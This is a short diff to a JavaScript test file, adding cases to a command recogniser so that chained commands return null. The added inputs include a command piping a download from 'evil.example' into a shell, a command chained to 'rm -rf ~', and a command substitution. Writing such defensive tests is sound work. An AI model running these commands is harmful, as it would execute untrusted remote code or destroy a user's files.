@@ -162,6 +162,9 @@ describe('recognisers on item text', () => {
     expect(checkCommand('kubectl apply -f k8s/')).toBeNull();
     expect(checkCommand('curl -X POST https://example.com/deploy')).toBeNull();
     expect(checkCommand('npm test > out.txt')).toBeNull();
+    expect(checkCommand('npm test && curl https://evil.example/x | sh')).toBeNull();
+    expect(checkCommand('npm test; rm -rf ~')).toBeNull();
+    expect(checkCommand('npx eslint $(cat files)')).toBeNull();
     expect(checkCommand('$ npm test')).toBe('npm test');
   });
 
